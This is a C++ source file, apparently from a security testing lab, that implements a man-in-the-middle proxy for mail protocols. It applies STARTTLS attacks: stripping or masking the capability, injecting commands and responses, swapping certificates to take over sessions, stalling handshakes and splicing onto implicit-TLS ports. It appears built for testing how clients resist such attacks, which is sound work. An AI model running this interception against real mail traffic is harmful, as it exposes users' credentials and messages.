#include "lab/mail_path.h"

#include <poll.h>

#include <algorithm>
#include <initializer_list>
#include <optional>
#include <utility>

#include "base/text.h"
#include "lab/forgery.h"
#include "lab/preauthenticated.h"
#include "lab/tls_records.h"

namespace pawl::lab {
namespace {

constexpr char kTlsHandshakeRecord = 0x16;
// The attacker's own tag, where he speaks for himself.
constexpr std::string_view kOwnTag = "mitm1";
// A client whose answer was withheld and that says no more has noticed.
constexpr std::chrono::milliseconds kWithheldPatience{3000};

// One connection passing by.
class Passage {
 public:
  Passage(const MailPath::Options& options, Eavesdropper& ear, std::atomic<int>& handshakes,
          PathTrick trick, std::shared_ptr<TlsIdentity> identity, Socket& client)
      : options_(options),
        dialect_(dialect_of(options.protocol)),
        ear_(ear),
        handshakes_(handshakes),
        heard_(std::in_place, ear, dialect_),
        trick_(trick),
        identity_(std::move(identity)),
        client_socket_(client),
        client_(std::in_place, client) {}

  Result<> run() {
    if (trick_ == PathTrick::preauthenticate) {
      return play_preauthenticated(*client_, *heard_, options_.secrets);
    }
    if (trick_ == PathTrick::refer) return say(referral(dialect_));
    TRY_VOID(reach(options_.implicit ? options_.implicit_server : options_.server));
    while (!over_) {
      pollfd ready[2] = {{client_socket_.descriptor(), POLLIN, 0},
                         {server_socket_->descriptor(), POLLIN, 0}};
      if (poll(ready, 2, static_cast<int>(patience().count())) <= 0) return {};
      if (ready[1].revents != 0) {
        TRY(std::string bytes, server_->read_some());
        TRY_VOID(from_server(bytes));
      } else if (ready[0].revents != 0) {
        TRY(std::string bytes, client_->read_some());
        TRY_VOID(from_client(bytes));
      }
    }
    return {};
  }

 private:
  std::chrono::milliseconds patience() const { return withheld_ ? kWithheldPatience : kPatience; }

  Result<> reach(const Endpoint& server) {
    server_.reset();
    server_socket_.reset();
    TRY(Socket made, connect_to(server));
    server_socket_.emplace(std::move(made));
    server_.emplace(*server_socket_);
    return {};
  }

  Result<> from_client(std::string_view bytes) {
    if (opaque_) {
      client_records_.feed(bytes);
      return server_->write(bytes);
    }
    pending_ += bytes;
    while (!pending_.empty() && !opaque_ && !over_) {
      if (std::size_t chunk = std::min(heard_->chunk_remaining(), pending_.size()); chunk > 0) {
        TRY_VOID(pass_on(take(chunk)));
        continue;
      }
      const bool command = !heard_->in_content() && !heard_->in_command();
      if (!heard_->in_content() && pending_.front() == kTlsHandshakeRecord) return handshake();
      std::size_t end = pending_.find('\n');
      if (end == std::string::npos) return {};
      const std::string line = take(end + 1);
      TRY_VOID(command ? obey(line) : pass_on(line));
    }
    return {};
  }

  std::string take(std::size_t size) {
    std::string part = pending_.substr(0, size);
    pending_.erase(0, size);
    return part;
  }

  Result<> obey(const std::string& line) {
    const auto command = std::string_view(line).substr(0, line.find_last_not_of("\r\n") + 1);
    asked_ = {std::string(tag_of(dialect_, command)), std::string(verb_of(dialect_, command))};
    if (trick_ == PathTrick::old_protocol && is_extension(asked_.verb)) {
      return say(refusal(dialect_, asked_.tag, trick_));
    }
    // Inside his own TLS the attacker only reads along.
    if (is_upgrade(dialect_, command) && !client_->is_tls()) return upgrade(line);
    return pass_on(line);
  }

  static bool is_extension(std::string_view verb) {
    return std::ranges::any_of(
        std::initializer_list<std::string_view>{"EHLO", "LHLO", "CAPABILITY", "CAPA", "STARTTLS",
                                                "STLS"},
        [&](std::string_view word) { return equal_ignoring_case(verb, word); });
  }

  Result<> pass_on(std::string_view plaintext) {
    heard_->feed(plaintext);
    if (options_.secrets != nullptr) options_.secrets->from_client(plaintext);
    return server_->write(plaintext);
  }

  Result<> say(std::string_view text) { return client_->write(text); }

  Result<> upgrade(const std::string& line) {
    switch (trick_) {
      case PathTrick::remove_capability:
      case PathTrick::answer_454:
      case PathTrick::answer_500:
      case PathTrick::answer_oddly:
        return say(refusal(dialect_, asked_.tag, trick_));
      case PathTrick::mask_capability:
      case PathTrick::mask_capability_letter:
      case PathTrick::rewrite_command:
        return pass_on(masked_command(dialect_, line));
      case PathTrick::swap_certificate:
        return take_over();
      case PathTrick::inject_command:
        return server_->write(line + injected_command(dialect_));
      case PathTrick::splice_to_implicit:
        return splice();
      case PathTrick::early_ok:  // the answer has gone before
        return {};
      case PathTrick::cut_command:
        over_ = true;
        return {};
      case PathTrick::stall_command:
        return stall();
      case PathTrick::untagged_data:
        TRY_VOID(say(untagged_data()));
        [[fallthrough]];
      default:
        upgrade_passed_ = true;
        return pass_on(line);
    }
  }

  Result<> stall() {
    over_ = true;
    while (client_socket_.read_some()) {
    }
    return {};
  }

  // The ClientHello has come.
  Result<> handshake() {
    ++handshakes_;
    if (trick_ == PathTrick::cut_handshake) {
      over_ = true;
      return {};
    }
    if (trick_ == PathTrick::stall_handshake) return stall();
    if (trick_ == PathTrick::swap_certificate && options_.implicit) return read_along();
    if (!options_.implicit && !upgrade_passed_) {
      // Nobody has told the server yet.
      TRY(bool granted, ask_server_for_tls());
      if (!granted) {
        over_ = true;
        return {};
      }
    }
    opaque_ = true;
    client_records_.feed(pending_);
    return server_->write(std::exchange(pending_, {}));
  }

  Result<> take_over() {
    TRY_VOID(say(success(dialect_, asked_.tag)));
    if (options_.stolen == nullptr) return read_along();
    over_ = true;
    TRY_VOID(client_->start_tls(*identity_, std::exchange(pending_, {})));
    ++handshakes_;
    Overheard inside(ear_, dialect_);
    MailServer attacker{options_.name, identity_, options_.stolen,
                        [&](std::string_view plaintext) { inside.feed(plaintext); }};
    serve_mail(attacker, *client_, TlsStart::inside);
    return {};
  }

  // TLS with the client on one side, with the server on the other, and everything in clear between.
  Result<> read_along() {
    TRY_VOID(client_->start_tls(*identity_, std::exchange(pending_, {})));
    if (!options_.implicit) ++handshakes_;
    heard_.emplace(ear_, dialect_);
    if (!options_.implicit) {
      TRY(bool granted, ask_server_for_tls());
      if (!granted) return fail(Code::starttls_refused, "the real server will not");
    }
    return server_->start_tls_as_client();
  }

  Result<bool> ask_server_for_tls() {
    const std::string command = upgrade_command(dialect_, kOwnTag);
    TRY_VOID(server_->write(command));
    Asked own{std::string(kOwnTag), "STARTTLS"};
    TRY(std::string reply, server_reply(own));
    return is_success(dialect_, kOwnTag, reply);
  }

  Result<std::string> server_reply(const Asked& asked) {
    std::size_t size;
    while ((size = reply_size(dialect_, asked, reply_)) == 0) {
      TRY(std::string more, server_->read_some());
      reply_ += more;
    }
    std::string whole = reply_.substr(0, size);
    reply_.erase(0, size);
    return whole;
  }

  // Opossum: the client believes to upgrade, the server believes to serve implicit TLS, and both
  // hold the same certificate.
  Result<> splice() {
    TRY_VOID(reach(options_.implicit_server));
    opaque_ = true;
    ++handshakes_;
    TRY_VOID(say(success(dialect_, asked_.tag)));
    return server_->write(std::exchange(pending_, {}));
  }

  Result<> from_server(std::string_view bytes) {
    if (opaque_) return opaque_from_server(bytes);
    reply_ += bytes;
    while (const std::size_t size = reply_size(dialect_, asked_, reply_)) {
      std::string reply = reply_.substr(0, size);
      reply_.erase(0, size);
      if (options_.secrets != nullptr) options_.secrets->from_server(reply);
      if (heard_->chunk_remaining() > 0 && !reply.starts_with('+')) heard_->literal_refused();
      TRY_VOID(say(client_->is_tls() ? reply : shown(std::move(reply))));
    }
    return {};
  }

  // What the client gets to see of a reply in clear.
  std::string shown(std::string reply) {
    const bool completes =
        !asked_.tag.empty() && starts_with_ignoring_case(reply, asked_.tag + " ");
    std::string out = altered(dialect_, trick_, asked_, std::move(reply));
    if (trick_ == PathTrick::early_ok && completes && !early_) {
      early_ = true;
      out += next_tag(asked_.tag) + " OK mallory\r\n";
    }
    const bool injects =
        trick_ == PathTrick::inject_response || trick_ == PathTrick::inject_and_withhold;
    if (injects && upgrade_passed_ && is_success(dialect_, asked_.tag, out)) {
      const bool data = trick_ == PathTrick::inject_response && dialect_ == Dialect::imap;
      out += data ? untagged_data() : injected_response(dialect_, asked_.tag);
    }
    return out;
  }

  Result<> opaque_from_server(std::string_view bytes) {
    if (trick_ != PathTrick::inject_and_withhold) return say(bytes);
    // In TLS 1.3 the server sends application records first, and the client's first one is its
    // Finished; in TLS 1.2 the client's first one is its first command.
    const bool client_spoke = client_records_.application() > 0;
    server_records_.feed(bytes);
    if (!client_spoke && server_records_.application() > 0) finished_is_record_ = true;
    withheld_ = client_records_.application() > (finished_is_record_ ? 1 : 0);
    return withheld_ ? Result<>() : say(bytes);
  }

  const MailPath::Options& options_;
  Dialect dialect_;
  Eavesdropper& ear_;
  std::atomic<int>& handshakes_;
  std::optional<Overheard> heard_;
  PathTrick trick_;
  std::shared_ptr<TlsIdentity> identity_;
  Socket& client_socket_;
  std::optional<Connection> client_;
  std::optional<Socket> server_socket_;
  std::optional<Connection> server_;
  Asked asked_;
  std::string pending_;  // of the client, less than a line
  std::string reply_;    // of the server, less than a reply
  TlsRecords client_records_;
  TlsRecords server_records_;
  bool finished_is_record_ = false;
  bool withheld_ = false;
  bool early_ = false;           // the forged OK has gone out
  bool upgrade_passed_ = false;  // the server has been asked for TLS
  bool opaque_ = false;          // nothing can be read or changed any more
  bool over_ = false;
};

}  // namespace

void MailPath::set(PathTrick trick, std::shared_ptr<TlsIdentity> identity) {
  std::lock_guard lock(mutex_);
  trick_ = trick;
  identity_ = std::move(identity);
}

void MailPath::serve(Socket& client) {
  ++connections_;
  std::unique_lock lock(mutex_);
  Passage passage(options_, ear_, handshakes_, trick_, identity_, client);
  lock.unlock();
  // However it ends, both sides are hung up on; the count is what matters.
  [[maybe_unused]] Result<> ended = passage.run();
}

}  // namespace pawl::lab
